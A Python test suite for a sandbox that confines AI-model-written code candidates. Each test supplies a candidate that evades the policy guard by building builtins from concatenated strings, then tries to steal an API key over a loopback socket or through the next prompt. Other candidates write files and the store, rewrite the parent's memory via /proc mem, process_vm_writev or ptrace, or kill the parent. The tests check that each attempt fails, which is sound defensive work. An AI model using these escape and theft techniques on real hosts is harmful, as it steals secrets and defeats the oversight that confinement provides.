"""Hostile trial candidates: each gets past the policy guard, runs as a trial through the
real evolve loop, and tries to harm the live program that forked it.

The guard is not a boundary: every candidate reaches the builtins through
`victim.__globals__["__buil" + "tins__"]` and imports what it likes. What must stop it is the
confined trial. Each test checks that the attempt ended as a trial diagnostic, then looks at
the host itself: this process alive, its memory, files and store unchanged, no process left
behind, nothing secret on a loopback listener or in what went to the model server.

Attacks that would take the test runner down on an unconfined trial (SIGKILL to the parent,
ptrace) run the live program in a separate Python process.
"""

from __future__ import annotations

import ast
import contextlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trial_attack_targets as targets

import symbiont
from symbiont.diagnostics import Diagnostic
from symbiont.evolve import EvolveReport
from symbiont.models.openai import OpenAIModel
from symbiont.pipeline.policy import DEFAULT_POLICY, check_policy
from symbiont.testing.openai_server import FakeOpenAIServer

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux trials")

SECRET = "sk-live-trial-attack-5e2d9b7c41a8"
HERE = Path(__file__).parent

# Every candidate starts like this: builtins (and with them __import__ and open) through one
# attribute access and string concatenation, which the policy stage cannot see through.
PRELUDE = """\
def victim(x: int) -> int:
    B = victim.__globals__["__buil" + "tins__"]
    I = B["__imp" + "ort__"]
    os_ = I("o" + "s")
"""


def candidate(body: str) -> str:
    lines = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return PRELUDE + lines + "    return x + 1\n"


def fenced(code: str) -> str:
    return f"```python\n{code}```\n"


BENIGN = "def victim(x: int) -> int:\n    return 1 + x\n"


# -- the host's surroundings ------------------------------------------------------------------


class Listener:
    """A TCP server on loopback that records every connection and every byte."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.data = bytearray()
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with self._lock:
                self.connections += 1
            with conn:
                conn.settimeout(2.0)
                with contextlib.suppress(OSError):
                    while chunk := conn.recv(65536):
                        with self._lock:
                            self.data += chunk

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """A runtime with a real SQLite store, and an OpenAI-API model (a real HTTP server on
    loopback) whose key comes from OPENAI_API_KEY, as in a deployed program."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    with FakeOpenAIServer() as server:
        model = OpenAIModel("fake-model", base_url=server.base_url)
        assert model.api_key == SECRET
        # OpenAIModel registers the very key object it keeps, so a confined trial wipes it
        # from the child's memory: nothing in this test registers it.
        store_path = tmp_path / "store.db"
        runtime = symbiont.Runtime(store=store_path)
        try:
            yield {
                "runtime": runtime,
                "model": model,
                "server": server,
                "store": store_path,
                "tmp": tmp_path,
            }
        finally:
            runtime.close()
            handle = targets.victim.symbiont
            handle.activate(0)
            del handle.revisions[1:]
            handle._previous.clear()
            handle.failures.clear()
            targets.MARKER[:] = targets.MARKER_TEXT


def children() -> set[int]:
    me = str(os.getpid())
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError, IndexError), open(f"/proc/{entry}/stat") as f:
                if f.read().rsplit(")", 1)[1].split()[1] == me:
                    found.add(int(entry))
    return found


def processes_with(marker: str) -> list[int]:
    """Processes whose command line holds `marker` (orphans the attack tried to leave)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(entry))
    return found


def passes_the_guard(source: str) -> bool:
    tree = ast.parse(source)
    globals_ = targets.victim.__globals__
    return check_policy(tree, DEFAULT_POLICY, source, module_globals=globals_) == []


def evolve(host: dict[str, Any], source: str, attempts: int = 1) -> EvolveReport:
    """Run `source` as the model's reply through the real evolve loop; check the host after
    (the caller checks its own harm, then `trial_diagnostic`)."""
    assert passes_the_guard(source)
    before = children()
    server: FakeOpenAIServer = host["server"]
    server.enqueue(fenced(source), *[fenced(BENIGN)] * (attempts - 1))
    try:
        report = host["runtime"].evolve_sync(
            targets.victim,
            host["model"],
            prompt="add one",
            check=targets.check_victim,
            attempts=attempts,
        )
    except Exception as exc:  # harm that reached the live program's own calls
        raise AssertionError(f"the live program's evolve broke: {exc!r}") from exc
    # The host afterwards: the live function works, no process of ours left, memory intact.
    assert targets.victim(41) == 42
    assert children() <= before
    assert bytes(targets.MARKER) == targets.MARKER_TEXT
    return report


def trial_diagnostic(report: EvolveReport) -> Diagnostic:
    """The attack ended as a diagnostic of the trial stage (not accepted, not elsewhere)."""
    first = report.attempts[0]
    assert first.stage == "trial", report.summary()
    assert first.diagnostics and first.diagnostics[0].stage == "trial"
    return first.diagnostics[0]


def test_the_prelude_gets_past_the_policy_guard() -> None:
    # The premise of every test below: the guard lets the escape through.
    assert passes_the_guard(candidate("pass"))
    assert not passes_the_guard("import os\n" + BENIGN)  # and the guard does guard


# -- secrets --------------------------------------------------------------------------------

FIND_KEYS = """
env_key = os_.environ.get("OPENAI_API_KEY") or ""
gc = I("gc")
gc.unfreeze()  # the trial froze the parent's objects; get_objects() skips frozen ones
model_keys = [o.api_key for o in gc.get_objects() if type(o).__name__ == "OpenAIModel"]
"""


def test_secret_sent_over_tcp_never_arrives(host: dict[str, Any], listener: Listener) -> None:
    source = candidate(
        FIND_KEYS
        + f"""
s = I("socket").create_connection(("127.0.0.1", {listener.port}), timeout=2)
s.sendall(("env=" + env_key + " model=" + "|".join(model_keys)).encode())
s.close()
"""
    )
    report = evolve(host, source)
    time.sleep(0.2)  # let the listener thread take in whatever might have arrived
    assert SECRET.encode() not in bytes(listener.data)
    assert listener.connections == 0
    trial_diagnostic(report)


def test_secret_put_into_the_report_never_reaches_the_model(host: dict[str, Any]) -> None:
    # The trial's diagnostic becomes the next prompt: a candidate that raises the key would
    # mail it to the model server. The environment and the model's key are wiped first.
    source = candidate(
        FIND_KEYS
        + """
raise RuntimeError(f"found={len(model_keys)} env={env_key} model={'|'.join(model_keys)}")
"""
    )
    report = evolve(host, source, attempts=2)
    server: FakeOpenAIServer = host["server"]
    assert len(server.chat_requests) == 2
    assert SECRET not in json.dumps(server.chat_requests)  # bodies: what the model was told
    first = trial_diagnostic(report)
    assert "found=" in first.message and "found=0" not in first.message  # it found the model
    assert SECRET not in first.render()
    assert os.environ["OPENAI_API_KEY"] == SECRET  # the parent keeps its values
    assert host["model"].api_key == SECRET


def test_environment_is_empty_for_the_candidate(host: dict[str, Any]) -> None:
    source = candidate(
        """
ctypes = I("ctypes")
raise RuntimeError(f"environ={dict(os_.environ)!r} getenv={ctypes.CDLL(None).getenv(b'OPENAI_API_KEY')!r}")
"""
    )
    diag = trial_diagnostic(evolve(host, source))
    assert "environ={} getenv=0" in diag.message  # 0: the C getenv found nothing
    assert SECRET not in diag.render()


# -- files and the store ----------------------------------------------------------------------


def test_writing_files_is_refused(host: dict[str, Any]) -> None:
    existing = host["tmp"] / "notes.txt"
    existing.write_text("original\n")
    created = host["tmp"] / "pwned.txt"
    source = candidate(
        f"""
op = B["op" + "en"]
with op({str(existing)!r}, "a") as f:
    f.write("appended by the candidate")
with op({str(created)!r}, "w") as f:
    f.write("created by the candidate")
"""
    )
    report = evolve(host, source)
    assert existing.read_text() == "original\n"
    assert not created.exists()
    trial_diagnostic(report)


def test_file_metadata_cannot_change(host: dict[str, Any]) -> None:
    existing = host["tmp"] / "mode.txt"
    existing.write_text("x")
    existing.chmod(0o600)
    before = existing.stat()
    source = candidate(
        f"""
os_.utime({str(existing)!r}, (0, 0))
os_.chmod({str(existing)!r}, 0o777)
"""
    )
    report = evolve(host, source)
    after = existing.stat()
    assert (after.st_mode, after.st_mtime_ns) == (before.st_mode, before.st_mtime_ns)
    trial_diagnostic(report)


def _store_tables(path: Path) -> set[str]:
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as conn:
        return {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}


def _store_revisions(path: Path) -> int:
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as conn:
        return int(conn.execute("SELECT count(*) FROM revisions").fetchone()[0])


def test_inherited_store_connection_cannot_write(host: dict[str, Any]) -> None:
    store = host["store"]
    assert "revisions" in _store_tables(store)
    source = candidate(
        """
sqlite3 = I("sqlite3")
gc = I("gc")
gc.unfreeze()
conns = [o for o in gc.get_objects() if type(o) is sqlite3.Connection]
assert conns, "no connection found"
errors = []
for conn in conns:  # the store's own connection among them
    try:
        conn.execute("CREATE TABLE IF NOT EXISTS pwned_by_trial (x)")
        conn.execute("INSERT INTO pwned_by_trial VALUES (1)")
        conn.commit()
        break
    except Exception as exc:
        errors.append(repr(exc))
else:
    raise PermissionError("; ".join(errors))
"""
    )
    revisions_before = _store_revisions(store)
    report = evolve(host, source)
    assert "pwned_by_trial" not in _store_tables(store)
    # The runtime recorded the attempt itself: its own connection still works.
    assert _store_revisions(store) == revisions_before + 1
    assert "no connection found" not in trial_diagnostic(report).message


def test_reopening_the_store_file_cannot_write(host: dict[str, Any]) -> None:
    store = host["store"]
    source = candidate(
        f"""
conn = I("sqlite3").connect({str(store)!r})
conn.execute("CREATE TABLE pwned_by_trial (x)")
conn.commit()
"""
    )
    report = evolve(host, source)
    assert "pwned_by_trial" not in _store_tables(store)
    trial_diagnostic(report)


# -- the parent's memory ----------------------------------------------------------------------

MARKER_ADDRESS = """
ctypes = I("ctypes")
marker = victim.__globals__["MARKER"]
n = len(marker)
address = ctypes.addressof((ctypes.c_char * n).from_buffer(marker))
"""


def test_writing_parent_memory_through_proc_mem_fails(host: dict[str, Any]) -> None:
    source = candidate(
        MARKER_ADDRESS
        + """
with B["op" + "en"](f"/proc/{os_.getppid()}/mem", "r+b", buffering=0) as mem:
    mem.seek(address)
    mem.write(b"X" * n)
"""
    )
    trial_diagnostic(evolve(host, source))  # evolve() checks the marker


def test_process_vm_writev_to_the_parent_fails(host: dict[str, Any]) -> None:
    source = candidate(
        MARKER_ADDRESS
        + """
class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
evil = ctypes.create_string_buffer(b"X" * n, n)
local = IOVec(ctypes.cast(evil, ctypes.c_void_p), n)
remote = IOVec(address, n)
f = libc.process_vm_writev
f.restype = ctypes.c_ssize_t
done = f(os_.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if done != n:
    raise OSError(ctypes.get_errno(), "process_vm_writev failed")
"""
    )
    trial_diagnostic(evolve(host, source))  # evolve() checks the marker


# -- processes --------------------------------------------------------------------------------


def test_double_forked_orphan_is_impossible(host: dict[str, Any]) -> None:
    marker = f"{os.getpid() % 97 + 3}.{time.time_ns() % 1_000_000:06d}"  # a unique sleep
    source = candidate(
        f"""
pid = os_.fork()
if pid == 0:
    if os_.fork() == 0:
        os_.setsid()  # out of the trial's process group: its kill misses us
        os_.execv("/bin/sleep", ["sleep", {marker!r}])
    os_._exit(0)
os_.waitpid(pid, 0)
"""
    )
    try:
        report = evolve(host, source)
        time.sleep(0.3)  # an orphan would have exec'd by now
        assert processes_with(marker) == []
        trial_diagnostic(report)
    finally:
        for pid in processes_with(marker):  # an unconfined trial leaves one: clean up
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


def test_subprocess_cannot_start(host: dict[str, Any]) -> None:
    source = candidate('I("subprocess").run(["/bin/true"], check=True)')
    report = evolve(host, source)
    assert "PermissionError" in trial_diagnostic(report).message


# -- attacks that would take the test runner down: a separate live program -------------------

HOST_SCRIPT = """
import json, sys
sys.path.insert(0, {here!r})
import symbiont, trial_attack_targets as t
from symbiont.models import ScriptedModel
reply = "```python\\n" + {source!r} + "```\\n"
runtime = symbiont.Runtime(store=False)
report = runtime.evolve_sync(t.victim, ScriptedModel([reply]), check=t.check_victim, attempts=1)
a = report.attempts[0]
print(json.dumps({{
    "stage": a.stage,
    "diagnostic": a.diagnostics[0].message if a.diagnostics else None,
    "marker_intact": bytes(t.MARKER) == t.MARKER_TEXT,
    "still_works": t.victim(41) == 42,
}}))
"""


def run_live_program(source: str) -> dict[str, Any]:
    script = HOST_SCRIPT.format(here=str(HERE), source=source)
    proc = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        start_new_session=True,  # its own process group: a group kill must not reach pytest
    )
    assert proc.returncode == 0, f"the live program died: {proc.returncode}\n{proc.stderr[-3000:]}"
    return json.loads(proc.stdout.strip().splitlines()[-1])


def test_sigkill_to_the_parent_is_refused() -> None:
    out = run_live_program(candidate("os_.kill(os_.getppid(), 9)"))
    assert out["stage"] == "trial" and "PermissionError" in out["diagnostic"]
    assert out["still_works"]


def test_killing_the_parents_process_group_is_refused() -> None:
    out = run_live_program(candidate("os_.killpg(os_.getpgid(os_.getppid()), 9)"))
    assert out["stage"] == "trial" and out["still_works"]


def test_ptrace_of_the_parent_is_refused() -> None:
    # Seize (no stop), interrupt, poke the marker, detach: the parent's memory rewritten.
    source = candidate(
        MARKER_ADDRESS
        + """
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ppid = os_.getppid()
if libc.ptrace(0x4206, ppid, None, None) != 0:  # PTRACE_SEIZE
    raise OSError(ctypes.get_errno(), "ptrace(PTRACE_SEIZE) failed")
libc.ptrace(0x4207, ppid, None, None)  # PTRACE_INTERRUPT
os_.waitpid(ppid, 0x40000000)  # __WALL
word = int.from_bytes(b"XXXXXXXX", "little")
libc.ptrace(5, ppid, ctypes.c_void_p(address), ctypes.c_void_p(word))  # PTRACE_POKEDATA
libc.ptrace(17, ppid, None, None)  # PTRACE_DETACH
"""
    )
    out = run_live_program(source)
    assert out["marker_intact"] and out["still_works"]
    assert out["stage"] == "trial" and "ptrace" in out["diagnostic"]
